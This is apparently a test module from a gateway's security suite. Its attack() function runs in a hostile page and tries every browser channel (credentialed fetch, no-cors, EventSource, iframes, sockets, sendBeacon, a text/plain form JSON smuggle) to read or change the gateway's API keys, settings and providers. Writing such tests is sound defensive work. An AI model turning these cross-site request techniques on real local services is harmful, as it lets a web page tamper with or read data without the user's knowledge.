// What a hostile page tries against the gateway. attack() runs inside that page and returns what it could read; whether anything
// changed is asked of the gateway afterwards.

/** Paths and bodies of the three surfaces. */
export const READS = [
  '/', '/index.html', '/healthz', '/api/auth/status', '/api/system/status', '/api/settings', '/api/providers', '/api/keys', '/api/combos',
  '/api/usage/call-logs', '/api/openapi.json', '/api/events', '/api/resilience', '/api/models/catalog', '/v1/models', '/v1beta/models',
  '/api/tags', '/metrics', '/api/monitoring/health',
];
/** @type {[string, string, any][]} */
export const WRITES = [
  ['POST', '/api/combos', { name: 'planted', models: ['demo/simulated'], strategy: 'priority' }],
  ['POST', '/api/keys', { name: 'planted' }],
  ['PATCH', '/api/settings', { requireApiKey: true }],
  ['PUT', '/api/settings', { requireApiKey: true }],
  ['PUT', '/api/models/alias', { pattern: 'planted', target: 'demo/simulated' }],
  ['POST', '/api/provider-nodes', { name: 'planted', prefix: 'planted', type: 'openai-compatible', baseUrl: 'http://127.0.0.1:9/v1' }],
  ['POST', '/api/providers', { provider: 'openai', name: 'planted', apiKey: 'sk-planted' }],
  ['DELETE', '/api/combos/COMBO', undefined],
  ['DELETE', '/api/keys/KEY', undefined],
  ['POST', '/api/resilience/reset', {}],
  ['POST', '/api/system/sign-in-link', {}],
  ['POST', '/api/auth/login', { password: 'guess' }],
  ['POST', '/api/auth/sign-in', { token: 'guess' }],
  ['POST', '/api/auth/logout', {}],
  ['POST', '/v1/chat/completions', { model: 'demo/simulated', messages: [{ role: 'user', content: 'planted' }] }],
  ['POST', '/v1/messages', { model: 'demo/simulated', max_tokens: 9, messages: [{ role: 'user', content: 'planted' }] }],
  ['POST', '/v1/responses', { model: 'demo/simulated', input: 'planted' }],
  ['POST', '/v1beta/models/demo%2Fsimulated:generateContent', { contents: [{ role: 'user', parts: [{ text: 'planted' }] }] }],
  ['POST', '/api/chat', { model: 'demo/simulated', messages: [{ role: 'user', content: 'planted' }] }],
];

/**
 * Runs in the page: every way of sending and reading that a page has. Returns what came back readable.
 * @param {{base: string, reads: string[], writes: [string, string, any][], csrf: string}} plan
 */
export async function attack({ base, reads, writes, csrf }) {
  const got = [];
  let tried = 0;
  const note = (how, path, what) => { if (what) got.push(`${how} ${path}: ${String(what).slice(0, 200)}`); };
  const limit = (p) => Promise.race([p, new Promise((ok) => setTimeout(ok, 4000, ''))]).catch(() => '');
  const firstBytes = async (res) => {
    if (res.type === 'opaque' || res.type === 'opaqueredirect') return '';
    const { value } = await res.body.getReader().read();
    return `${res.status} ${new TextDecoder().decode(value)}`;
  };
  const element = (tag, set) => new Promise((ok) => {
    const e = document.createElement(tag);
    e.onload = () => ok(e);
    e.onerror = () => ok(undefined);
    set(e);
    document.body.append(e);
  });
  const socket = (url) => new Promise((ok) => {
    const s = new WebSocket(url.replace(/^http/, 'ws'));
    s.onopen = () => { s.close(); ok('opened'); };
    s.onerror = () => ok('');
  });
  const readers = {
    'fetch': (url) => fetch(url).then(firstBytes),
    'fetch with credentials': (url) => fetch(url, { credentials: 'include' }).then(firstBytes),
    'fetch no-cors': (url) => fetch(url, { mode: 'no-cors', credentials: 'include' }).then(firstBytes),
    'fetch with a stolen word': (url) => fetch(url, { credentials: 'include', headers: { 'X-OmniRoute-CSRF': csrf } }).then(firstBytes),
    'fetch with a bearer': (url) => fetch(url, { headers: { authorization: 'Bearer guess' } }).then(firstBytes),
    'xhr': (url) => new Promise((ok) => {
      const x = new XMLHttpRequest();
      x.open('GET', url);
      x.withCredentials = true;
      x.onload = () => ok(`${x.status} ${x.responseText}`);
      x.onerror = () => ok('');
      x.send();
    }),
    'event source': (url) => new Promise((ok) => {
      const s = new EventSource(url, { withCredentials: true });
      const end = (what) => { s.close(); ok(what); };
      s.onopen = () => end('opened');
      s.onmessage = (e) => end(e.data);
      s.onerror = () => end('');
    }),
    'script': (url) => element('script', (e) => { e.src = url; }).then((e) => e && 'ran'),
    'module': (url) => import(url).then((m) => Object.keys(m).join() || 'ran'),
    'style': (url) => element('link', (e) => { e.rel = 'stylesheet'; e.href = url; }).then((e) => e && 'applied'),
    'image': (url) => element('img', (e) => { e.src = url; }).then((e) => e && 'drawn'),
    'frame': (url) => element('iframe', (e) => { e.src = url; }).then((e) => { try { return e?.contentDocument?.body?.innerText; } catch { return ''; } }),
    'object': (url) => element('object', (e) => { e.data = url; }).then((e) => { try { return e?.contentDocument?.body?.innerText; } catch { return ''; } }),
  };
  for (const path of reads) {
    await Promise.all(Object.entries(readers).map(async ([how, read]) => {
      tried++;
      note(how, path, await limit(read(base + path)));
    }));
  }
  // Few: Chromium makes a page whose sockets fail wait longer and longer.
  for (const path of ['/api/events', '/v1/responses', '/v1/realtime']) {
    tried++;
    note('socket', path, await limit(socket(base + path)));
  }
  for (const [method, path, body] of writes) {
    const text = body === undefined ? undefined : JSON.stringify(body);
    const send = (init) => fetch(base + path, { method, body: text, credentials: 'include', ...init }).then(firstBytes);
    tried += 5;
    note(`${method} json`, path, await limit(send({ headers: { 'content-type': 'application/json', 'X-OmniRoute-CSRF': csrf } })));
    note(`${method} plain`, path, await limit(send({ headers: { 'content-type': 'text/plain' } })));
    if (method !== 'POST') continue;
    note('POST no-cors', path, await limit(send({ mode: 'no-cors' })));
    note('POST keepalive', path, await limit(send({ keepalive: true, mode: 'no-cors' })));
    navigator.sendBeacon(base + path, text);
    // A form can say {"a":"=b"} as text/plain, and leaves with a navigation.
    const sink = document.createElement('iframe');
    sink.name = `sink${tried}`;
    const form = document.createElement('form');
    Object.assign(form, { method, action: base + path, enctype: 'text/plain', target: sink.name });
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name: text.slice(0, -1), value: '}' });
    form.append(input);
    document.body.append(sink, form);
    const landed = new Promise((ok) => { sink.onload = ok; });
    form.submit();
    await limit(landed);
    try { note('form', path, sink.contentDocument?.body?.innerText); } catch { /* another origin: not readable */ }
  }
  return { tried, got };
}
